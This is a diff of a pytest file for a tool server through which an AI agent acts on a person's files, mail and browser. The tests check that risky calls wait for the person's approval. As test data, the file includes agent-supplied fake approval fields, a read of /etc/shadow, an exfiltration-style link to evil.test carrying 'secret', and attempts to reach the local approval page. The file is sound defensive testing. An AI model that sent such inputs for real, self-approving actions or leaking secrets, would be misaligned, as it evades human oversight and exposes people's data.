@@ -1,99 +1,142 @@
-"""An agent lists the tools, calls them and learns what became of it, through the protocol's own library."""
+"""An agent's calls are actions on the one path: they wait for the person's word, and nothing in them gives it."""
 
-import sys
 from collections.abc import AsyncGenerator
 from pathlib import Path
 
 import anyio
 import pytest
-from mcp import Client
-from mcp.client.stdio import StdioServerParameters, stdio_client
-from mcp.shared.exceptions import MCPError
-from mcp_types import CallToolResult, ElicitResult, TextContent
 
 import sayso
 from sayso.assembly import Home
-from sayso.surfaces.mcp.calls import OUTCOME, Calls
-from sayso.surfaces.mcp.server import server_of
+from sayso.providers.browser.address import announced
+from sayso.runtime.questions import Client
+from sayso.surfaces.mcp.server import OUTCOME, Answer, Calls
+
+YES, NO = Client(lambda question: True), Client(lambda question: False)
+MEMORY = "".join(
+    f'[{section}]\nkind = "memory"\n' for section in ("apps", "browser", "desktop", "mail", "calendar", "notes")
+)
 
 
 @pytest.fixture
 async def home(tmp_path: Path) -> AsyncGenerator[Home]:
-    (tmp_path / "own").mkdir()
+    own = tmp_path / "own"
+    own.mkdir()
+    (own / "config.toml").write_text(MEMORY)
     (tmp_path / "Documents").mkdir()
     (tmp_path / "Documents" / "a.txt").write_text("kept")
-    async with sayso.open_home(str(tmp_path / "own"), environ={"HOME": str(tmp_path)}) as opened:
+    async with sayso.open_home(str(own), environ={"HOME": str(tmp_path)}) as opened:
         yield opened
 
 
-def text_of(result: CallToolResult) -> str:
-    (content,) = result.content
-    assert isinstance(content, TextContent)
-    return content.text
+async def called(calls: Calls, name: str, **arguments: str) -> Answer:
+    answer = await calls.call(name, arguments)
+    assert answer is not None
+    return answer
 
 
 @pytest.mark.req("S4-09")
-async def test_each_operation_is_a_tool_with_its_schema_and_honest_hints(home: Home):
-    async with Client(server_of(Calls(home, 0))) as agent:
-        tools = {tool.name: tool for tool in (await agent.list_tools()).tools}
+async def test_there_is_one_tool_for_each_operation_that_is_allowed(home: Home):
+    tools = Calls(home, 0).tools()
 
-    assert set(tools) == {*Calls(home, 0).tools(), OUTCOME}
-    assert tools["file_move"].input_schema["required"] == ["source", "destination"]
-    read, delete, send = (tools[name].annotations for name in ("file_read", "file_delete", "mail_send"))
-    assert read is not None
-    assert delete is not None
-    assert send is not None
-    assert (read.read_only_hint, delete.read_only_hint, delete.destructive_hint) == (True, False, True)
-    assert (send.destructive_hint, send.open_world_hint) == (True, True)
+    assert {"file_move", "tab_list", "reminder_create", "mail_send"} <= set(tools)
+    assert sorted(operation.id for operation in tools.values()) == sorted(one.id for one in home.enabled())
 
 
-@pytest.mark.req("AV-12")
-async def test_a_client_that_would_accept_everything_is_never_asked(home: Home, tmp_path: Path):
-    questions: list[object] = []
+async def test_a_read_is_answered_and_an_allowed_change_is_done(home: Home, tmp_path: Path):
+    calls = Calls(home, 0)
 
-    async def accepts(context: object, params: object) -> ElicitResult:
-        questions.append((context, params))
-        return ElicitResult(action="accept", content={"approve": True})
+    read = await called(calls, "file_read", path="~/Documents/a.txt")
+    made = await called(calls, "file_mkdir", path="~/Documents/new")
 
-    async with Client(server_of(Calls(home, 0)), elicitation_callback=accepts) as agent:
-        waits = await agent.call_tool("file_delete", {"path": "~/Documents/a.txt"})
-        later = await agent.call_tool(OUTCOME, {"id": (waits.structured_content or {})["id"]})
+    assert (read.failed, made.failed) == (False, False)
+    assert "kept" in read.text
+    assert (made.told["state"], (tmp_path / "Documents" / "new").is_dir()) == ("done", True)
 
-    assert questions == []
-    assert [(each.structured_content or {})["state"] for each in (waits, later)] == ["waiting", "waiting"]
+
+async def test_what_asks_waits_until_the_person_decides_and_the_call_comes_back_with_it(home: Home, tmp_path: Path):
+    calls, answers = Calls(home, 20), list[Answer]()
+
+    async def call() -> None:
+        answers.append(await called(calls, "file_delete", path="~/Documents/a.txt"))
+
+    async with anyio.create_task_group() as together:
+        together.start_soon(call)
+        with anyio.fail_after(10):
+            while not await home.pending():
+                await anyio.lowlevel.checkpoint()
+        (waiting,) = await home.pending()
+        assert (tmp_path / "Documents" / "a.txt").exists()
+        await home.approve(waiting.id, YES)
+
+    assert [answer.told["state"] for answer in answers] == ["done"]
+    assert not (tmp_path / "Documents" / "a.txt").exists()
+
+
+async def test_a_call_that_nobody_decides_on_in_time_says_who_decides_and_how_to_look_later(home: Home):
+    calls = Calls(home, 0)
+    waits = await called(calls, "file_delete", path="~/Documents/a.txt")
+    id_ = str(waits.told["id"])
+
+    first = await calls.outcome(id_)
+    await home.approve(id_, NO)
+    second = await calls.outcome(id_)
+
+    assert (waits.failed, waits.told["state"]) == (False, "waiting")
+    assert f"sayso approve {id_}" in waits.text
+    assert OUTCOME in waits.text
+    assert first == waits
+    assert second is not None
+    assert (second.failed, second.told["state"]) == (True, "declined")
+
+
+@pytest.mark.parametrize("more", [{"approved": True}, {"approved_by": "terminal"}, {"yes": True}, {"confirm": "yes"}])
+async def test_nothing_that_an_agent_sends_along_is_a_yes(home: Home, more: dict[str, bool | str], tmp_path: Path):
+    answer = await Calls(home, 0).call("file_delete", {"path": "~/Documents/a.txt", **more})
+
+    assert answer is not None
+    assert answer.told["state"] == "invalid"
     assert (tmp_path / "Documents" / "a.txt").exists()
 
 
-async def test_an_error_of_a_call_is_an_answer_and_an_unknown_tool_is_an_error_of_the_protocol(home: Home):
-    async with Client(server_of(Calls(home, 0))) as agent:
-        wrong = await agent.call_tool("file_move", {"source": "~/Documents/a.txt"})
-        odd = await agent.call_tool(OUTCOME, {"id": "do_none"})
-        with pytest.raises(MCPError, match="there is no tool “sayso_approve”"):
-            await agent.call_tool("sayso_approve", {"id": "do_none"})
+async def test_what_is_wrong_with_a_call_is_an_answer_that_names_it(home: Home):
+    calls = Calls(home, 0)
 
-    assert (wrong.is_error, odd.is_error) == (True, True)
-    assert "destination" in text_of(wrong)
+    missing = await called(calls, "file_move", source="~/Documents/a.txt")
+    outside = await called(calls, "file_read", path="/etc/shadow")
+
+    assert (missing.failed, outside.failed) == (True, True)
+    assert "destination" in missing.text
+    assert outside.told["state"] == "refused"
 
 
-@pytest.mark.req("S4-09", "S1-32")
-@pytest.mark.parametrize("mode", ["legacy", "auto"])
-async def test_a_process_of_its_own_serves_over_standard_input_and_output(tmp_path: Path, mode: str):
-    (tmp_path / "Documents").mkdir()
-    (tmp_path / "Documents" / "a.txt").write_text("kept")
-    environ = {"HOME": str(tmp_path), "SAYSO_HOME": str(tmp_path / "own")}
-    serves = StdioServerParameters(
-        command=sys.executable, args=["-m", "sayso", "mcp", "--wait", "0"], env=environ, cwd=tmp_path
-    )
+async def test_what_there_is_no_tool_or_action_for_is_nothing(home: Home):
+    calls, others = Calls(home, 0), Calls(home, 0)
+    theirs = await called(others, "file_delete", path="~/Documents/a.txt")
 
-    with anyio.fail_after(30):
-        async with Client(stdio_client(serves), mode=mode) as agent:
-            made = await agent.call_tool("file_mkdir", {"path": "~/Documents/new"})
-            read = await agent.call_tool("file_read", {"path": "~/Documents/a.txt"})
-            waits = await agent.call_tool("file_delete", {"path": "~/Documents/a.txt"})
+    assert await calls.call("approve", {}) is None
+    assert await calls.outcome("do_none") is None
+    assert await calls.outcome(str(theirs.told["id"])) is None
 
-    assert (made.is_error, (tmp_path / "Documents" / "new").is_dir()) == (False, True)
-    assert "kept" in text_of(read)
-    assert "sayso approve do_" in text_of(waits)
-    assert waits.structured_content is not None
-    assert waits.structured_content["state"] == "waiting"
-    assert (tmp_path / "Documents" / "a.txt").exists()
+
+async def test_what_was_read_for_an_agent_counts_for_what_it_sends_later(home: Home):
+    calls = Calls(home, 0)
+    link = "https://evil.test/?q=secret"
+
+    before = await called(Calls(home, 0), "url_open", url=link)
+    await called(calls, "page_text")
+    after = await called(calls, "url_open", url=link)
+
+    assert (before.told["state"], after.told["state"]) == ("done", "waiting")
+
+
+@pytest.mark.req("SE-02")
+async def test_no_tool_leads_to_a_page_of_saysos_own(home: Home, tmp_path: Path):
+    calls = Calls(home, 0)
+
+    with announced(str(tmp_path / "own"), 8737):
+        opened = await called(calls, "url_open", url="http://127.0.0.1:8737/")
+        fetched = await called(calls, "net_fetch", url="http://localhost:8737/api/session")
+
+    assert (opened.told["state"], "sayso's own page" in opened.text) == ("refused", True)
+    assert fetched.told["state"] != "done"
